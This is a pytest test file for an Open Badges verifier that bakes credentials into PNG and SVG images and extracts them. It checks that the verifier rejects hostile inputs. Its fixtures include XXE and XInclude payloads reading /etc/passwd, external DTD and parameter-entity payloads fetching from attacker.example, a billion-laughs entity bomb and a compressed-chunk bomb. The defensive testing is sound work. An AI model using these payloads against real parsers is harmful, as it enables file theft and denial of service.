"""Baked PNG/SVG badges: round trips, the spec's shapes, and every hostile-image rejection."""
from __future__ import annotations

import json
import struct
import zlib

import pytest

from tests.support import EXAMPLES
from verifier.baked import (
    MAX_CHUNK_BYTES,
    PNG_SIGNATURE,
    BakedImageError,
    BakedPayload,
    bake_png,
    bake_svg,
    extract_baked,
    sniff_image,
)
from verifier.errors import CredentialError

SAMPLE = EXAMPLES / "docformat__L11__sample-openbadgecredential-file-contents.json"


def _sample_json() -> str:
    if SAMPLE.is_file():
        return json.dumps(json.loads(SAMPLE.read_text(encoding="utf-8")), ensure_ascii=False)
    return json.dumps({
        "@context": ["https://www.w3.org/ns/credentials/v2",
                     "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"],
        "id": "http://example.edu/credentials/3732",
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": "Example University Degree — Teamwork",
    }, ensure_ascii=False)


CREDENTIAL = _sample_json()
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJodHRwczovL2V4YW1wbGUuZWR1In0.c2lnbmF0dXJl"
OB2_URL = "https://example.org/assertions/123"


# --------------------------------------------------------------------------- #
# Building images by hand
# --------------------------------------------------------------------------- #
def chunk(ctype: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    value = zlib.crc32(ctype + body) if crc is None else crc
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", value)


IHDR = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))  # 1x1, 8-bit grey
IDAT = chunk(b"IDAT", zlib.compress(b"\x00\x80"))  # filter byte + one pixel
IEND = chunk(b"IEND", b"")


def png(*middle: bytes, after_iend: bytes = b"") -> bytes:
    return PNG_SIGNATURE + IHDR + b"".join(middle) + IDAT + IEND + after_iend


def itxt(keyword: bytes, text: str | bytes, *, compressed: bool = False) -> bytes:
    raw = text.encode("utf-8") if isinstance(text, str) else text
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return chunk(b"iTXt", keyword + b"\0" + flag + b"\0" + b"\0" + (zlib.compress(raw) if compressed else raw))


def text_chunk(keyword: bytes, text: str) -> bytes:
    return chunk(b"tEXt", keyword + b"\0" + text.encode("latin-1"))


def walk(data: bytes) -> list[tuple[bytes, bytes]]:
    """Independent chunk walker for assertions (checks every CRC)."""
    assert data.startswith(PNG_SIGNATURE)
    pos, out = 8, []
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos:pos + 4])
        ctype, body = data[pos + 4:pos + 8], data[pos + 8:pos + 8 + length]
        (crc,) = struct.unpack(">I", data[pos + 8 + length:pos + 12 + length])
        assert crc == zlib.crc32(ctype + body)
        out.append((ctype, body))
        pos += 12 + length
    return out


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512">\n'
    b'  <circle cx="256" cy="256" r="200" fill="#336"/>\n'
    b"</svg>\n"
)
OB3_NS = "https://purl.imsglobal.org/ob/v3p0"


def svg_with(inner: str, *, extra_ns: str = "", prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> bytes:
    return (
        f'{prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}" {extra_ns}'
        f'viewBox="0 0 512 512">\n  {inner}\n  <rect width="1" height="1"/>\n</svg>\n'
    ).encode()


def error_code(data: bytes, **kwargs) -> str:
    with pytest.raises(BakedImageError) as info:
        extract_baked(data, **kwargs)
    assert isinstance(info.value, CredentialError)
    assert str(info.value)  # always a readable message
    return info.value.code


# --------------------------------------------------------------------------- #
# Sniffing
# --------------------------------------------------------------------------- #
@pytest.mark.parametrize("data, expected", [
    (png(), "png"),
    (SVG, "svg"),
    (b"\xef\xbb\xbf  " + SVG, "svg"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
    (b"<!-- art --><svg/>", "svg"),
    (b"<!DOCTYPE html><html><body><svg></svg></body></html>", None),
    (b"<html><svg></svg></html>", None),
    (b"GIF89a....", None),
    (b"\xff\xd8\xff\xe0JFIF", None),
    (b"PK\x03\x04zip", None),
    (b"", None),
    (b'{"@context": []}', None),
])
def test_sniff_image(data, expected):
    assert sniff_image(data) == expected


@pytest.mark.parametrize("data", [
    b"GIF89a\x01\x00\x01\x00",
    b"<html><script>alert(1)</script></html>",
    b"%PDF-1.7",
    b"",
    b'{"a": 1}',
])
def test_not_an_image(data):
    assert error_code(data) == "not_an_image"


def test_extract_rejects_non_bytes():
    with pytest.raises(BakedImageError) as info:
        extract_baked("not bytes")  # type: ignore[arg-type]
    assert info.value.code == "not_an_image"


# --------------------------------------------------------------------------- #
# PNG round trips
# --------------------------------------------------------------------------- #
@pytest.mark.parametrize("payload, kind", [(CREDENTIAL, "json"), (JWT, "jwt")])
def test_png_round_trip(payload, kind):
    baked = bake_png(png(), payload)
    assert extract_baked(baked) == BakedPayload("png", "ob3", kind, payload)
    chunks = walk(baked)
    types = [c for c, _ in chunks]
    assert types == [b"IHDR", b"IDAT", b"iTXt", b"IEND"]  # inserted right before IEND
    itxt_body = chunks[2][1]
    assert itxt_body.startswith(b"openbadgecredential\0\x00\x00")  # compression flag 0, method 0
    assert chunks[1] == walk(png())[1]  # pixels untouched


def test_png_round_trip_keeps_utf8():
    payload = json.dumps({"type": ["VerifiableCredential"], "name": "Zertifikat für Teamarbeit ✓"},
                         ensure_ascii=False)
    assert extract_baked(bake_png(png(), payload)).value == payload


def test_png_extract_handmade_chunk_and_strips_whitespace():
    assert extract_baked(png(itxt(b"openbadgecredential", "\n  " + JWT + "\n"))).value == JWT


def test_rebaking_png_replaces_the_chunk():
    once = bake_png(png(), CREDENTIAL)
    twice = bake_png(once, JWT)
    assert [c for c, _ in walk(twice)].count(b"iTXt") == 1
    assert twice.count(b"openbadgecredential") == 1
    assert extract_baked(twice).value == JWT
    assert bake_png(twice, JWT) == twice  # idempotent


def test_baking_over_an_ob2_png_removes_the_old_badge():
    old = png(text_chunk(b"openbadges", OB2_URL), itxt(b"Comment", "keep me"))
    baked = bake_png(old, CREDENTIAL)
    assert b"openbadges\0" not in baked
    assert b"keep me" in baked  # unrelated text chunks stay
    assert extract_baked(baked).version == "ob3"


def test_bake_png_drops_bytes_after_iend():
    baked = bake_png(png(after_iend=b"trailing garbage"), JWT)
    assert baked.endswith(IEND)


@pytest.mark.parametrize("payload", ["", "hello", "[1, 2]", '{"a": NaN}', '{"a": 1, "a": 2}', "a.b"])
def test_bake_refuses_a_payload_that_is_not_a_credential(payload):
    for bake, image in ((bake_png, png()), (bake_svg, SVG)):
        with pytest.raises(BakedImageError) as info:
            bake(image, payload)
        assert info.value.code == "invalid_input"


def test_bake_png_refuses_a_broken_png():
    with pytest.raises(BakedImageError) as info:
        bake_png(png()[:-5], JWT)
    assert info.value.code == "bad_png"


# --------------------------------------------------------------------------- #
# PNG: OB 2.0
# --------------------------------------------------------------------------- #
def test_ob2_png_with_legacy_text_url():
    assert extract_baked(png(text_chunk(b"openbadges", OB2_URL))) == BakedPayload("png", "ob2", "url", OB2_URL)


def test_ob2_png_with_itxt_url_json_and_jws():
    assert extract_baked(png(itxt(b"openbadges", OB2_URL))).kind == "url"
    assertion = json.dumps({"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": OB2_URL})
    assert extract_baked(png(itxt(b"openbadges", assertion))) == BakedPayload("png", "ob2", "json", assertion)
    assert extract_baked(png(itxt(b"openbadges", JWT))).kind == "jwt"


def test_ob3_chunk_holding_a_url_is_not_a_credential():
    assert error_code(png(itxt(b"openbadgecredential", OB2_URL))) == "no_credential_in_image"


def test_garbage_credential_text_is_not_a_credential():
    assert error_code(png(itxt(b"openbadgecredential", "hello world"))) == "no_credential_in_image"
    assert error_code(png(itxt(b"openbadges", "javascript:alert(1)"))) == "no_credential_in_image"


# --------------------------------------------------------------------------- #
# PNG: hostile and broken files
# --------------------------------------------------------------------------- #
def test_png_without_credential():
    assert error_code(png()) == "no_credential_in_image"
    assert error_code(png(itxt(b"Comment", CREDENTIAL))) == "no_credential_in_image"
    assert error_code(png(itxt(b"OpenBadgeCredential", CREDENTIAL))) == "no_credential_in_image"  # case matters


def test_image_over_the_size_cap():
    assert error_code(bake_png(png(), CREDENTIAL), max_bytes=100) == "too_large"


@pytest.mark.parametrize("declared", [100 * 1024 * 1024, MAX_CHUNK_BYTES + 1, 0x7FFFFFFF])
def test_huge_declared_chunk_length(declared):
    bogus = struct.pack(">I", declared) + b"iTXt" + b"openbadgecredential\0\0\0\0\0{}"
    assert error_code(PNG_SIGNATURE + IHDR + bogus) == "too_large"


def test_invalid_chunk_length():
    bogus = struct.pack(">I", 0x80000000) + b"tEXt" + b"x" * 20
    assert error_code(PNG_SIGNATURE + IHDR + bogus) == "bad_png"


def test_bad_crc():
    body = b"openbadgecredential\0\0\0\0\0" + JWT.encode()
    bad = chunk(b"iTXt", body, crc=zlib.crc32(b"iTXt" + body) ^ 1)
    assert error_code(png(bad)) == "bad_png"
    # a bad CRC anywhere, not only in the credential chunk
    broken_idat = chunk(b"IDAT", b"xyz", crc=0)
    assert error_code(PNG_SIGNATURE + IHDR + broken_idat + IEND) == "bad_png"


@pytest.mark.parametrize("cut", [9, 20, 33, -13, -1])
def test_truncated_png(cut):
    assert error_code(bake_png(png(), CREDENTIAL)[:cut]) == "bad_png"


def test_png_without_iend_or_ihdr():
    assert error_code(PNG_SIGNATURE + IHDR + itxt(b"openbadgecredential", JWT) + IDAT) == "bad_png"
    assert error_code(PNG_SIGNATURE + itxt(b"openbadgecredential", JWT) + IHDR + IDAT + IEND) == "bad_png"
    assert error_code(PNG_SIGNATURE + chunk(b"I\x00DR", b"") + IEND) == "bad_png"


def test_compressed_itxt_is_refused_without_inflating():
    bomb = b"\0" * (4 * 1024 * 1024)  # compresses to ~4 KiB; must never be inflated
    assert error_code(png(itxt(b"openbadgecredential", bomb, compressed=True))) == "compressed_credential_chunk"
    assert error_code(png(itxt(b"openbadges", JWT, compressed=True))) == "compressed_credential_chunk"


def test_ztxt_credential_is_refused():
    ztxt = chunk(b"zTXt", b"openbadgecredential\0\0" + zlib.compress(CREDENTIAL.encode()))
    assert error_code(png(ztxt)) == "compressed_credential_chunk"


def test_malformed_credential_itxt():
    assert error_code(png(chunk(b"iTXt", b"openbadgecredential\0\x00"))) == "bad_png"
    assert error_code(png(chunk(b"iTXt", b"openbadgecredential\0\x02\x00\0\0" + JWT.encode()))) == "bad_png"
    assert error_code(png(chunk(b"iTXt", b"openbadgecredential\0\x00\x00" + JWT.encode()))) == "bad_png"
    assert error_code(png(itxt(b"openbadgecredential", b"{\xff\xfe}"))) == "bad_png"


def test_two_credential_chunks_are_ambiguous():
    data = png(itxt(b"openbadgecredential", CREDENTIAL), itxt(b"openbadgecredential", JWT))
    assert error_code(data) == "ambiguous_baking"


def test_ob2_and_ob3_chunks_together_are_ambiguous():
    data = png(itxt(b"openbadges", OB2_URL), itxt(b"openbadgecredential", JWT))
    assert error_code(data) == "ambiguous_baking"
    data = png(text_chunk(b"openbadges", OB2_URL), itxt(b"openbadgecredential", JWT))
    assert error_code(data) == "ambiguous_baking"


def test_credential_after_iend_is_ambiguous():
    hidden = itxt(b"openbadgecredential", JWT)
    assert error_code(png(itxt(b"openbadgecredential", CREDENTIAL), after_iend=hidden)) == "ambiguous_baking"
    assert error_code(png(after_iend=hidden)) == "ambiguous_baking"


def test_harmless_bytes_after_iend_are_ignored():
    assert extract_baked(png(itxt(b"openbadgecredential", JWT), after_iend=b"\0\0 padding")).value == JWT


# --------------------------------------------------------------------------- #
# SVG round trips
# --------------------------------------------------------------------------- #
def test_svg_round_trip_json_in_cdata():
    baked = bake_svg(SVG, CREDENTIAL)
    assert extract_baked(baked) == BakedPayload("svg", "ob3", "json", CREDENTIAL)
    text = baked.decode("utf-8")
    assert f'xmlns:openbadges="{OB3_NS}"' in text
    assert "<openbadges:credential><![CDATA[" in text
    assert 'verify="' not in text
    # directly after the <svg> tag, and the artwork is kept
    assert text.index("<openbadges:credential>") < text.index("<circle")
    assert 'r="200"' in text


def test_svg_round_trip_jwt_in_verify_attribute():
    baked = bake_svg(SVG, JWT)
    assert extract_baked(baked) == BakedPayload("svg", "ob3", "jwt", JWT)
    assert f'<openbadges:credential verify="{JWT}"/>' in baked.decode("utf-8")


def test_svg_json_containing_cdata_terminator():
    payload = json.dumps({"type": ["VerifiableCredential"], "name": "a ]]> b ]]>"})
    assert extract_baked(bake_svg(SVG, payload)).value == payload


def test_rebaking_svg_replaces_the_element():
    once = bake_svg(SVG, CREDENTIAL)
    twice = bake_svg(once, JWT)
    assert twice.count(b"<openbadges:credential") == 1
    assert extract_baked(twice).value == JWT
    assert bake_svg(twice, JWT) == twice  # idempotent
    thrice = bake_svg(twice, CREDENTIAL)
    assert extract_baked(thrice).value == CREDENTIAL


def test_baking_over_an_ob2_svg_removes_the_old_badge():
    old = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
           b'<openbadges:assertion verify="https://example.org/assertions/123"/><rect/></svg>')
    baked = bake_svg(old, JWT)
    assert b"openbadges:assertion" not in baked
    assert extract_baked(baked) == BakedPayload("svg", "ob3", "jwt", JWT)


def test_spec_shaped_svgs():
    jwt_svg = svg_with(f'<openbadges:credential verify="{JWT}"></openbadges:credential>')
    assert extract_baked(jwt_svg) == BakedPayload("svg", "ob3", "jwt", JWT)
    json_svg = svg_with(f"<openbadges:credential>\n      <![CDATA[\n{CREDENTIAL}\n      ]]>\n    </openbadges:credential>")
    assert extract_baked(json_svg) == BakedPayload("svg", "ob3", "json", CREDENTIAL)


def test_svg_with_the_standard_svg_doctype_is_accepted():
    doctype = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
               '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n')
    data = svg_with(f'<openbadges:credential verify="{JWT}"/>', prolog=doctype)
    assert extract_baked(data).value == JWT
    rebaked = bake_svg(data, CREDENTIAL)
    assert extract_baked(rebaked).value == CREDENTIAL


def test_ob2_svg():
    ob2 = 'xmlns:ob2="http://openbadges.org" '
    url_only = svg_with(f'<ob2:assertion verify="{OB2_URL}"/>', extra_ns=ob2)
    assert extract_baked(url_only) == BakedPayload("svg", "ob2", "url", OB2_URL)
    signed = svg_with(f'<ob2:assertion verify="{JWT}"/>', extra_ns=ob2)
    assert extract_baked(signed) == BakedPayload("svg", "ob2", "jwt", JWT)
    assertion = json.dumps({"@context": "https://w3id.org/openbadges/v2", "id": OB2_URL, "type": "Assertion"})
    body = svg_with(f'<ob2:assertion verify="{OB2_URL}"><![CDATA[{assertion}]]></ob2:assertion>', extra_ns=ob2)
    assert extract_baked(body) == BakedPayload("svg", "ob2", "json", assertion)  # the body wins


# --------------------------------------------------------------------------- #
# SVG: hostile and broken files
# --------------------------------------------------------------------------- #
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&xxe;</openbadges:credential></svg>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">
<svg xmlns="http://www.w3.org/2000/svg"></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"></svg>"""

FAKE_SVG_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "file:///etc/passwd">
<svg xmlns="http://www.w3.org/2000/svg"></svg>"""

SVG_DOCTYPE_WITH_SUBSET = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
 <!ENTITY x "y">]>
<svg xmlns="http://www.w3.org/2000/svg"></svg>"""


@pytest.mark.parametrize("data", [
    XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, FAKE_SVG_DOCTYPE, SVG_DOCTYPE_WITH_SUBSET,
    BILLION_LAUGHS.replace(b'<?xml version="1.0"?>\n', b""),
], ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "fake-svg-doctype",
        "svg-doctype-with-subset", "billion-laughs-no-prolog"])
def test_unsafe_svg(data):
    assert error_code(data) == "unsafe_svg"
    with pytest.raises(BakedImageError) as info:
        bake_svg(data, JWT)
    assert info.value.code == "unsafe_svg"


def test_xinclude_is_never_processed():
    data = svg_with(
        f'<openbadges:credential verify="{JWT}"/>'
        '<xi:include href="file:///etc/passwd" parse="text"/>',
        extra_ns='xmlns:xi="http://www.w3.org/2001/XInclude" ',
    )
    assert extract_baked(data).value == JWT
    baked = bake_svg(data, CREDENTIAL)
    assert b"root:" not in baked and b'href="file:///etc/passwd"' in baked  # left inert, not inlined


def test_svg_over_the_size_cap():
    big = svg_with(f'<openbadges:credential verify="{JWT}"/><!--{"x" * 5000}-->')
    assert error_code(big, max_bytes=4096) == "too_large"


@pytest.mark.parametrize("data", [
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
    b'<svg xmlns="http://www.w3.org/2000/svg">&undefined;</svg>',
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><a b="1" b="2"/></svg>',
    b'<?xml version="1.0"?><foo><svg xmlns="http://www.w3.org/2000/svg"/></foo>',
    b'<?xml version="1.0"?><svg xmlns="http://example.org/not-svg"/>',
    svg_with(f'<openbadges:credential><g/>{JWT}</openbadges:credential>'),
])
def test_bad_svg(data):
    assert error_code(data) == "bad_svg"


def test_svg_without_credential():
    assert error_code(SVG) == "no_credential_in_image"
    assert error_code(svg_with("<openbadges:credential/>")) == "no_credential_in_image"
    # the right local name in the wrong namespace does not count
    wrong = svg_with(f'<x:credential verify="{JWT}"/>', extra_ns='xmlns:x="https://purl.imsglobal.org/ob/v3p0/" ')
    assert error_code(wrong) == "no_credential_in_image"
    assert error_code(svg_with('<openbadges:credential verify="https://example.org/a"/>')) == "no_credential_in_image"


def test_two_svg_elements_are_ambiguous():
    two = svg_with(f'<openbadges:credential verify="{JWT}"/><openbadges:credential verify="{JWT}"/>')
    assert error_code(two) == "ambiguous_baking"
    nested = svg_with(f'<g><openbadges:credential verify="{JWT}"/></g><openbadges:credential verify="{JWT}"/>')
    assert error_code(nested) == "ambiguous_baking"


def test_ob2_and_ob3_svg_elements_are_ambiguous():
    both = svg_with(
        f'<openbadges:credential verify="{JWT}"/><ob2:assertion verify="{OB2_URL}"/>',
        extra_ns='xmlns:ob2="http://openbadges.org" ',
    )
    assert error_code(both) == "ambiguous_baking"


def test_ob3_element_with_both_verify_and_body_is_ambiguous():
    data = svg_with(f'<openbadges:credential verify="{JWT}"><![CDATA[{CREDENTIAL}]]></openbadges:credential>')
    assert error_code(data) == "ambiguous_baking"
